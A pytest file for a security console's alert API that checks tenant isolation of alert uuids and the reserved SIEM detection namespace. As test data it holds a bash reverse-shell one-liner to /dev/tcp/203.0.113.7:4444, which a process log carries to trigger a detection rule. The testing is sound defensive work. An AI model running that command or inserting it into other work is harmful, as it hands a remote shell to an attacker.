"""An alert's identity is (account, source, uuid): what one tenant sends can
never reveal, pre-empt or suppress another tenant's alerts, between two
organisations or between two accounts of one organisation; and no client may
send alerts in the namespace of the console's own SIEM detections."""

import json
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from alerts.detection_models import DetectionRule
from alerts.detection_rules import sync_predefined_rules as sync_detection_rules
from alerts.detection_run import run_detection
from alerts.models import Alert, AlertSource, IngestionRejection, LogRecord
from alerts.services import ingest_logs
from alerts.sigma.alerting import detection_uuid
from events.models import EventAlert
from events.predefined import sync_predefined_rules
from secops.services import create_api_key
from tests.conftest import native_alert, organisation_scope

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


def post_alerts(key: str, *alerts: dict):
    return Client().post(
        "/api/v1/alerts",
        json.dumps({"alerts": list(alerts)}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )


def counts(response) -> tuple:
    body = response.json()
    return body["accepted"], body["duplicates"], body["errors"]


def key_of(organisation, account=None) -> str:
    return create_api_key(organisation=organisation, account=account, name="collector")[1]


@pytest.fixture
def sides(tenancy):
    """Pairs of (attacker key and account, victim key and account): another
    organisation, and another account of the victim's own organisation."""
    return {
        "other organisation": (
            key_of(tenancy.other_org),
            tenancy.account_x,
            key_of(tenancy.org, tenancy.account_a),
            tenancy.account_a,
        ),
        "other account": (
            key_of(tenancy.org, tenancy.account_b),
            tenancy.account_b,
            key_of(tenancy.org, tenancy.account_a),
            tenancy.account_a,
        ),
    }


SIDES = ["other organisation", "other account"]


@pytest.mark.parametrize("side", SIDES)
def test_a_uuid_of_another_tenant_is_not_revealed_by_the_answer(tenancy, sides, side):
    attacker_key, attacker_account, victim_key, victim_account = sides[side]
    assert post_alerts(victim_key, native_alert(victim_account, uuid="victim-1")).status_code == 200

    probe = post_alerts(attacker_key, native_alert(attacker_account, uuid="victim-1"))
    unknown = post_alerts(attacker_key, native_alert(attacker_account, uuid="never-sent"))

    # The answer for a uuid the victim holds is the same as for one nobody holds.
    assert probe.json() == unknown.json()
    assert counts(probe) == (1, 0, [])


@pytest.mark.parametrize("side", SIDES)
def test_a_squatted_uuid_does_not_suppress_the_real_alert(tenancy, sides, side):
    attacker_key, attacker_account, victim_key, victim_account = sides[side]
    squat = native_alert(attacker_account, uuid="victim-2", name="Decoy", level="low")
    real = native_alert(victim_account, uuid="victim-2", name="Real intrusion", level="high")
    post_alerts(attacker_key, squat)

    response = post_alerts(victim_key, real)

    assert counts(response) == (1, 0, [])
    stored = Alert.objects.get(account=victim_account, source_uuid="victim-2")
    assert (stored.name, stored.level) == ("Real intrusion", 3)
    assert Alert.objects.get(account=attacker_account, source_uuid="victim-2").name == "Decoy"


def test_a_repeat_within_one_account_is_still_a_duplicate(tenancy):
    key = key_of(tenancy.org, tenancy.account_a)
    post_alerts(key, native_alert(tenancy.account_a, uuid="same"))

    again = post_alerts(key, native_alert(tenancy.account_a, uuid="same", name="Changed"))

    assert counts(again) == (0, 1, [])
    assert Alert.objects.get(source_uuid="same").name == "Suspicious process"


def test_one_batch_may_carry_the_same_uuid_for_two_accounts(tenancy):
    response = post_alerts(
        key_of(tenancy.org),
        native_alert(tenancy.account_a, uuid="both"),
        native_alert(tenancy.account_b, uuid="both"),
    )

    assert counts(response) == (2, 0, [])


# --- the SIEM namespace -------------------------------------------------------------


def process_log(account) -> dict:
    return {
        "type": "process",
        "account": account.uid,
        "host_uuid": "host-web-01",
        "time": timezone.now().isoformat(),
        "pid": 4242,
        "ppid": 4000,
        "path": "/bin/bash",
        "cmdline": REVERSE_SHELL,
        "user": "admin",
        "parent_path": "/usr/sbin/sshd",
        "parent_cmdline": "sshd: admin@pts/0",
    }


def siem_squats(account, record, rule) -> list[dict]:
    """Alerts a client could send to pre-empt the detection of ``record``: under
    the uuid scheme of the row id, and under the current scheme."""
    return [
        native_alert(account, source="siem", uuid=uuid)
        for uuid in (
            f"siem-{rule.id}-{rule.sigma_id}-{record.id}",
            detection_uuid(rule.id, rule.sigma_id, record.digest),
        )
    ]


@pytest.mark.parametrize("attacker", ["other organisation", "same account"])
def test_no_client_can_pre_empt_a_siem_detection(tenancy, attacker):
    sync_detection_rules()
    (record_id,) = ingest_logs(
        [process_log(tenancy.account_a)], scope=organisation_scope(tenancy.org)
    ).stored_ids
    record = LogRecord.objects.get(id=record_id)
    rule = DetectionRule.objects.get(key="reverse-shell-command")
    if attacker == "other organisation":
        key, account = key_of(tenancy.other_org), tenancy.account_x
    else:
        key, account = key_of(tenancy.org, tenancy.account_a), tenancy.account_a

    squat = post_alerts(key, *siem_squats(account, record, rule))
    report = run_detection(now=timezone.now() + timedelta(seconds=1), lag=timedelta(0))

    assert squat.status_code == 422
    assert [(e["index"], e["field"]) for e in squat.json()["errors"]] == [
        (0, "source"),
        (1, "source"),
    ]
    assert "reserved" in squat.json()["errors"][0]["message"]
    assert not report.errors
    detection = Alert.objects.get(source=AlertSource.SIEM, account=tenancy.account_a)
    assert detection.name == "Reverse shell command line"
    assert Alert.objects.filter(source=AlertSource.SIEM).count() == 1
    assert IngestionRejection.objects.filter(field="source").count() == 2


def test_partial_batches_drop_only_the_siem_items(tenancy):
    key = key_of(tenancy.org, tenancy.account_a)
    response = Client().post(
        "/api/v1/alerts?partial=true",
        json.dumps(
            {
                "alerts": [
                    native_alert(tenancy.account_a, source="siem", uuid="s"),
                    native_alert(tenancy.account_a, uuid="fine"),
                ]
            }
        ),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )

    assert response.json()["accepted"] == 1
    assert [e["field"] for e in response.json()["errors"]] == ["source"]
    assert list(Alert.objects.values_list("source_uuid", flat=True)) == ["fine"]


def test_the_events_of_a_tenant_get_only_its_own_alerts(tenancy, ingest_and_aggregate):
    """The same uuid in two organisations goes into two events, one each."""
    sync_predefined_rules()
    for account in (tenancy.account_a, tenancy.account_x):
        ingest_and_aggregate(
            [native_alert(account, uuid="shared", type="webshell", level="high")],
            scope=organisation_scope(account.organisation),
        )

    links = EventAlert.objects.values_list("event__account", "alert__account")
    # Each account's alert is in events of its own account, and only there.
    assert set(links) == {(tenancy.account_a.id,) * 2, (tenancy.account_x.id,) * 2}
